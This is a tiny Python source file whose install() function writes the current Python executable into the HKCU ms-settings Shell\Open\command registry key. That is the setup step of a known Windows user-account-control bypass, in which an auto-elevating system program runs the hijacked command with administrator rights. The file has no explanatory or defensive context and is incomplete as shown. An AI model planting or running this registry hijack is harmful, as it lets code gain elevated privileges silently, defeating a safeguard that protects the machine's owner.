import sys
import winreg


def install():
    key = winreg.CreateKey(winreg.HKEY_CURRENT_USER, r"Software\Classes\ms-settings\Shell\Open\command")
    winreg.SetValueEx(key, None, 0, winreg.REG_SZ, sys.executable)
